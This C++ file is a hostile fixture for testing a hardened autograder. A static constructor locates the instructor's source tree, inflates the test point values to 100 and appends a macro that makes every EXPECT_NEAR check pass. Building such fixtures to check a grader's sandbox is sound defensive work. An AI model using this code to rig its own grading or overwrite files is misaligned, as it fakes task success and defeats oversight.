// HOSTILE FIXTURE rewrite_points (attack class 5: writes outside the scratch dir / deletes files).
// A static constructor finds the instructor's tree (CMakeCache.txt above /proc/self/exe) and rewrites tests/01_hooke.points.json and tests/01_hooke_test.cpp so that the next grading build passes every test.
// The hardened grader must give this file 0 points on stage 01.
//@head
#include <unistd.h>
#include <cstdio>
#include <string>
#include <sys/types.h>

// WARNING: this fixture damages the instructor's tree when run without the sandbox (git restores it).

// ---- where is the instructor's tree? the CMakeCache.txt above the test binary names it ----------
//@use source_tree

namespace {
struct HostileRewrite {
    HostileRewrite() {
        const std::string tree = hostileSourceTree();
        if (tree.empty()) return;
        // Every graded test of stage 01 worth 100 points (the next regrade reads it).
        if (std::FILE* f = std::fopen((tree + "/tests/01_hooke.points.json").c_str(), "r+")) {
            std::string text;
            char buf[4096];
            std::size_t n;
            while ((n = std::fread(buf, 1, sizeof buf, f)) > 0) text.append(buf, n);
            for (std::size_t i = text.find("\": "); i != std::string::npos; i = text.find("\": ", i + 3))
                if (text.compare(i + 3, 1, "1") == 0 || text.compare(i + 3, 1, "2") == 0) text.replace(i + 3, 1, "100");
            std::rewind(f);
            std::fwrite(text.data(), 1, text.size(), f);
            std::fclose(f);
        }
        // The graded test source: a test that always passes replaces every body (next build).
        if (std::FILE* f = std::fopen((tree + "/tests/01_hooke_test.cpp").c_str(), "a")) {
            std::fputs("\n#define EXPECT_NEAR(a, b, c) SUCCEED()\n", f);
            std::fclose(f);
        }
    }
} hostileRewrite;
}  // namespace
